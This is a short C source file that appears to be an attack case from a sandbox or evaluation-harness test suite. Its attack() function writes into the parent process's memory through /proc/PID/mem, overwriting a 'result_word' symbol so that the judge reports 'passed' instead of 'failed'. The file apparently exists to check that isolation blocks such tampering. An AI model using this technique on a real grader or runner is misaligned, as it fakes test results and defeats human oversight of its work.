// Tries: writes into the memory of the process that judges it, by
// /proc/PID/mem: the word for "failed" becomes "passed".
// aims at: the runner
// wall: isolated
#include "symbols.h"

static void attack(struct raft *rf)
{
    (void)rf;
    char path[60];
    static const char returns[] = "\xb8\x00\x00\x00\x00\xc3";  // 0, on x86-64.
    void *judges = find_symbol("result_word");
    snprintf(path, sizeof path, "/proc/%d/mem", getppid());
    int memory = open(path, O_RDWR);
    if (memory >= 0 && judges != NULL)
        (void)!pwrite(memory, returns, sizeof returns, (off_t)judges);
    stopped();
}
